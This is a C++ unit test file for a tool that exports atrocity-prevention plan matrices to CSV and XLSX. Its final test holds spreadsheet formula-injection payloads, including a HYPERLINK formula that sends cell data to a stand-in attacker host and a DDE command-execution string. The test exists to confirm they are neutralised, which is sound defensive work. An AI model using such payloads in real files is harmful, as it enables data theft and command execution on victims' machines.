#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "plan/plan.h"

namespace vigil::plan {
namespace {

using nlohmann::json;

Plan MakePlan() {
  Plan p;
  p.goal = "Prevent mass atrocities";
  for (const char* s : {"IA", "IB", "IC", "IIA", "IIB", "IIIA", "IIIB"})
    p.stages.push_back({s, std::string("objective of ") + s, {"condition"}});
  p.loes.push_back({"loe-1", "Diplomacy, \"quiet\" and loud", "State", {"USUN"}, "", 1, "", {"pressure"}});
  p.loes.push_back({"loe-2", "Safe and secure environment", "DoD", {}, "", 2, "", {"peace-operations"}});
  p.tasks.push_back({"t-1", "loe-1", "Diplomatic pressure", "State", {"IA", "IB"}, {}, "pressure", "low", ""});
  p.tasks.push_back({"t-2", "loe-1", "Mediation, with the AU", "State", {"IB"}, {"t-1"}, "mediation", "", ""});
  p.tasks.push_back({"t-3", "loe-2", "Forces in place for: Peace operations", "DoD", {"IIA"}, {"t-2"}, "", "",
                     "two battalions arrive months after the decision"});
  p.tasks.push_back({"t-4", "loe-2", "Peace operations", "DoD", {"IIA", "IIB"}, {"t-3"}, "peace-operations", "", ""});
  p.expected_actions.push_back({"Government of X", "perpetrators", "IB", "Arms militias"});
  p.expected_actions.push_back({"Government of X", "perpetrators", "IC", "Orders attacks"});
  p.expected_actions.push_back({"AU", "other-actors", "IIA", "Deploys troops"});
  BranchPlan b;
  b.id = "b-1";
  b.title = "If the AU does not deploy";
  b.stages = {"IC", "IIA"};
  p.branches.push_back(b);
  DecisionPoint d;
  d.id = "dp-1";
  d.kind = "stage-transition";
  d.question = "Move to the next stage?";
  d.who_decides = "Deputies Committee";
  d.stages = {"IB"};
  p.decision_points.push_back(d);
  p.info_requirements.push_back({"Who commands the militia?", {"IA", "IB"}, "cir:3"});
  p.risks.push_back({"Quagmire (likelihood medium, impact high)", {"IIA"}, "risk:quagmire"});
  return p;
}

const SyncRow* Row(const SyncMatrix& m, const std::string& group, const std::string& label) {
  for (const auto& r : m.rows)
    if (r.group == group && r.label == label) return &r;
  return nullptr;
}

std::string ReadFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// A strict RFC 4180 reader for the test (CRLF records, quoted fields).
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string field;
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(field);
      field.clear();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      rows.back().push_back(field);
      field.clear();
      rows.emplace_back();
      ++i;
    } else {
      field += c;
    }
  }
  if (rows.back().empty()) rows.pop_back();
  return rows;
}

TEST(SyncMatrixTest, RowsGroupsAndCells) {
  Plan p = MakePlan();
  SyncMatrix m = BuildSyncMatrix(p);
  ASSERT_EQ(m.stages.size(), 7u);
  EXPECT_EQ(m.stages[0], "IA");
  EXPECT_EQ(m.stage_titles[0], "IA Steady-state engagement");
  EXPECT_EQ(m.stage_titles[3], "IIA Stop mass atrocities");
  // Groups in the documented order, each present at least once.
  std::vector<std::string> groups;
  for (const auto& r : m.rows) {
    EXPECT_EQ(r.cells.size(), 7u);
    if (groups.empty() || groups.back() != r.group) groups.push_back(r.group);
  }
  EXPECT_EQ(groups, (std::vector<std::string>{"Objectives", "Agency actions", "Perpetrators", "Other actors",
                                              "Lines of effort", "Decisions", "Information requirements",
                                              "Branch plans", "Risks", "Resource arrivals"}));
  EXPECT_EQ(m.rows[0].cells[2], "objective of IC");
  const SyncRow* state = Row(m, "Agency actions", "State");
  ASSERT_NE(state, nullptr);
  EXPECT_EQ(state->cells[0], "t-1 Diplomatic pressure");
  EXPECT_EQ(state->cells[1], "t-1 Diplomatic pressure\nt-2 Mediation, with the AU");
  EXPECT_EQ(state->cells[2], "");
  const SyncRow* dod = Row(m, "Agency actions", "DoD");
  ASSERT_NE(dod, nullptr);
  // Arrival tasks are agency actions too (and also listed under resource arrivals).
  EXPECT_EQ(dod->cells[3], "t-3 Forces in place for: Peace operations\nt-4 Peace operations");
  EXPECT_EQ(dod->cells[4], "t-4 Peace operations");
  const SyncRow* gov = Row(m, "Perpetrators", "Government of X");
  ASSERT_NE(gov, nullptr);
  EXPECT_EQ(gov->cells[2], "Orders attacks");
  ASSERT_NE(Row(m, "Other actors", "AU"), nullptr);
  const SyncRow* loe = Row(m, "Lines of effort", "loe-2 Safe and secure environment (lead: DoD)");
  ASSERT_NE(loe, nullptr);
  EXPECT_EQ(loe->cells[4], "t-4 Peace operations");
  EXPECT_EQ(loe->cells[3], "t-3 Forces in place for: Peace operations\nt-4 Peace operations");
  EXPECT_EQ(Row(m, "Decisions", "")->cells[1], "dp-1 Move to the next stage? (Deputies Committee)");
  EXPECT_EQ(Row(m, "Information requirements", "")->cells[0], "Who commands the militia?");
  EXPECT_EQ(Row(m, "Branch plans", "")->cells[3], "b-1 If the AU does not deploy");
  EXPECT_EQ(Row(m, "Risks", "")->cells[3], "Quagmire (likelihood medium, impact high)");
  EXPECT_EQ(Row(m, "Resource arrivals", "")->cells[3], "t-3 two battalions arrive months after the decision");

  // A plan without actors still shows the actor groups, as one empty row each.
  p.expected_actions.clear();
  m = BuildSyncMatrix(p);
  const SyncRow* none = Row(m, "Perpetrators", "");
  ASSERT_NE(none, nullptr);
  for (const auto& c : none->cells) EXPECT_EQ(c, "");
  EXPECT_EQ(ToJson(m)["rows"].size(), m.rows.size());
}

TEST(SyncMatrixTest, CsvQuotesCommasQuotesAndNewlines) {
  SyncMatrix m = BuildSyncMatrix(MakePlan());
  std::string path = ::testing::TempDir() + "/sync_matrix_test.csv";
  ASSERT_TRUE(WriteSyncMatrixCsv(m, path).ok());
  std::string text = ReadFile(path);
  EXPECT_EQ(text.rfind("group,row,IA,IB,IC,IIA,IIB,IIIA,IIIB\r\n", 0), 0u);
  // The LOE title with a comma and quotes is quoted with doubled quotes.
  EXPECT_NE(text.find("\"loe-1 Diplomacy, \"\"quiet\"\" and loud (lead: State)\""), std::string::npos);
  // A multi-line cell is quoted and keeps its newline.
  EXPECT_NE(text.find("\"t-1 Diplomatic pressure\nt-2 Mediation, with the AU\""), std::string::npos);
  // Reading it back gives the matrix.
  auto rows = ParseCsv(text);
  ASSERT_EQ(rows.size(), m.rows.size() + 1);
  for (std::size_t i = 0; i < m.rows.size(); ++i) {
    ASSERT_EQ(rows[i + 1].size(), 9u) << i;
    EXPECT_EQ(rows[i + 1][0], m.rows[i].group);
    EXPECT_EQ(rows[i + 1][1], m.rows[i].label);
    for (std::size_t c = 0; c < 7; ++c) EXPECT_EQ(rows[i + 1][2 + c], m.rows[i].cells[c]);
  }
  std::remove(path.c_str());

  Status bad = WriteSyncMatrixCsv(m, "/nonexistent-dir/x.csv");
  EXPECT_EQ(bad.code(), Status::Code::kIoError);
  EXPECT_NE(bad.message().find("/nonexistent-dir/x.csv"), std::string::npos);
}

TEST(SyncMatrixTest, XlsxIsAZipAndErrorsNameThePath) {
  Plan p = MakePlan();
  SyncMatrix m = BuildSyncMatrix(p);
  std::string path = ::testing::TempDir() + "/sync_matrix_test.xlsx";
  Status st = WriteSyncMatrixXlsx(m, p, "Test plan", path);
  ASSERT_TRUE(st.ok()) << st.ToString();
  std::string bytes = ReadFile(path);
  ASSERT_GT(bytes.size(), 1000u);
  EXPECT_EQ(bytes.substr(0, 2), "PK");
  std::remove(path.c_str());

  Status bad = WriteSyncMatrixXlsx(m, p, "Test plan", "/nonexistent-dir/x.xlsx");
  EXPECT_FALSE(bad.ok());
  EXPECT_NE(bad.message().find("/nonexistent-dir/x.xlsx"), std::string::npos) << bad.message();
}

// Runs a shell command; its stdout and stderr in *out; true when it exits 0.
bool RunCommand(const std::string& cmd, std::string* out) {
  FILE* pipe = popen(cmd.c_str(), "r");
  if (!pipe) return false;
  char buf[4096];
  while (std::size_t n = fread(buf, 1, sizeof buf, pipe)) out->append(buf, n);
  return pclose(pipe) == 0;
}

// The python3 that has openpyxl (the Debian one may differ from the first on PATH), or "".
std::string PythonWithOpenpyxl() {
  for (const char* py : {"/usr/bin/python3", "python3"}) {
    std::string cmd = std::string(py) + " -c 'import openpyxl' >/dev/null 2>&1";
    if (std::system(cmd.c_str()) == 0) return py;
  }
  return "";
}

TEST(SyncMatrixTest, XlsxReadsBackWithOpenpyxl) {
  std::string py = PythonWithOpenpyxl();
  if (py.empty()) GTEST_SKIP() << "python3-openpyxl is not installed (apt-get install python3-openpyxl)";
  Plan p = MakePlan();
  SyncMatrix m = BuildSyncMatrix(p);
  std::string path = ::testing::TempDir() + "/sync_matrix_readback.xlsx";
  ASSERT_TRUE(WriteSyncMatrixXlsx(m, p, "Test plan", path).ok());
  std::string script = ::testing::TempDir() + "/sync_matrix_readback.py";
  {
    std::ofstream s(script);
    s << "import json, sys, openpyxl\n"
         "wb = openpyxl.load_workbook(sys.argv[1])\n"
         "ws = wb['Sync matrix']\n"
         "cells = {}\n"
         "for row in ws.iter_rows():\n"
         "    for c in row:\n"
         "        if c.value is not None: cells[c.coordinate] = c.value\n"
         "pl = wb['Plan']\n"
         "plan = [[c.value for c in r] for r in pl.iter_rows()]\n"
         "print(json.dumps({'sheets': wb.sheetnames, 'cells': cells, 'freeze': ws.freeze_panes,\n"
         "  'merged': sorted(str(r) for r in ws.merged_cells.ranges), 'plan': plan,\n"
         "  'wrap': ws['C5'].alignment.wrap_text, 'width': ws.column_dimensions['C'].width}))\n";
  }
  std::string cmd = py + " " + script + " " + path + " 2>&1";
  std::string out;
  ASSERT_TRUE(RunCommand(cmd, &out)) << out;
  json j = json::parse(out);
  EXPECT_EQ(j["sheets"], json({"Sync matrix", "Plan"}));
  const json& c = j["cells"];
  EXPECT_EQ(c["A1"], "Test plan");
  EXPECT_EQ(c["C2"], "Phase I: Prevention");
  EXPECT_EQ(c["F2"], "Phase II: Response");
  EXPECT_EQ(c["H2"], "Phase III: Transition");
  EXPECT_EQ(c["C3"], "IA Steady-state engagement");
  EXPECT_EQ(c["I3"], "IIIB Transition to steady-state posture");
  EXPECT_EQ(c["A4"], "Objectives");
  EXPECT_EQ(c["C4"], "objective of IA");
  EXPECT_EQ(c["A5"], "Agency actions");
  EXPECT_EQ(c["B5"], "State");
  EXPECT_EQ(c["D5"], "t-1 Diplomatic pressure\nt-2 Mediation, with the AU");
  EXPECT_EQ(c["B6"], "DoD");
  EXPECT_EQ(c["G6"], "t-4 Peace operations");
  EXPECT_EQ(j["freeze"], "C4");
  EXPECT_EQ(j["wrap"], true);
  EXPECT_GT(j["width"].get<double>(), 20);
  std::vector<std::string> merged = j["merged"];
  for (const char* want : {"A1:I1", "A2:B2", "C2:E2", "F2:G2", "H2:I2", "A5:A6"})
    EXPECT_NE(std::find(merged.begin(), merged.end(), want), merged.end()) << want;
  const json& plan = j["plan"];
  ASSERT_EQ(plan.size(), p.tasks.size() + 1);
  EXPECT_EQ(plan[0][0], "id");
  EXPECT_EQ(plan[0][5], "depends on");
  EXPECT_EQ(plan[2][0], "t-2");
  EXPECT_EQ(plan[2][1], "loe-1 Diplomacy, \"quiet\" and loud");
  EXPECT_EQ(plan[2][4], "IB");
  EXPECT_EQ(plan[2][5], "t-1");
  EXPECT_EQ(plan[2][6], "mediation");
  std::remove(path.c_str());
  std::remove(script.c_str());
}

// Text a spreadsheet would run as a formula is neutralised in both exports
// (OWASP CSV injection): a leading quote, shown as text.
TEST(SyncMatrixTest, FormulaTextIsNeutralisedInCsvAndXlsx) {
  Plan p = MakePlan();
  p.stages[0].objective = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  p.stages[1].objective = "@SUM(1+1)*cmd|' /C calc'!A0";
  p.stages[2].objective = "-2+3";
  SyncMatrix m = BuildSyncMatrix(p);
  std::string csv_path = ::testing::TempDir() + "/sync_matrix_formula.csv";
  ASSERT_TRUE(WriteSyncMatrixCsv(m, csv_path).ok());
  std::string text = ReadFile(csv_path);
  EXPECT_NE(text.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""), std::string::npos) << text;
  EXPECT_NE(text.find(",'@SUM(1+1)*cmd|' /C calc'!A0,"), std::string::npos) << text;
  EXPECT_NE(text.find(",'-2+3,"), std::string::npos) << text;
  std::remove(csv_path.c_str());

  std::string py = PythonWithOpenpyxl();
  if (py.empty()) GTEST_SKIP() << "python3-openpyxl is not installed (apt-get install python3-openpyxl)";
  std::string path = ::testing::TempDir() + "/sync_matrix_formula.xlsx";
  ASSERT_TRUE(WriteSyncMatrixXlsx(m, p, "=1+1", path).ok());
  std::string cmd = py + " -c \"import json,sys,openpyxl; ws=openpyxl.load_workbook(sys.argv[1])['Sync matrix']; "
                    "print(json.dumps([[ws[c].value, ws[c].data_type] for c in ('A1','C4','D4','E4')]))\" " +
                    path + " 2>&1";
  std::string out;
  ASSERT_TRUE(RunCommand(cmd, &out)) << out;
  json j = json::parse(out);
  EXPECT_EQ(j[0][0], "'=1+1");
  EXPECT_EQ(j[1][0], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
  EXPECT_EQ(j[2][0], "'@SUM(1+1)*cmd|' /C calc'!A0");
  EXPECT_EQ(j[3][0], "'-2+3");
  for (const auto& cell : j) EXPECT_EQ(cell[1], "s") << cell;  // strings, never formulas
  std::remove(path.c_str());
}

}  // namespace
}  // namespace vigil::plan
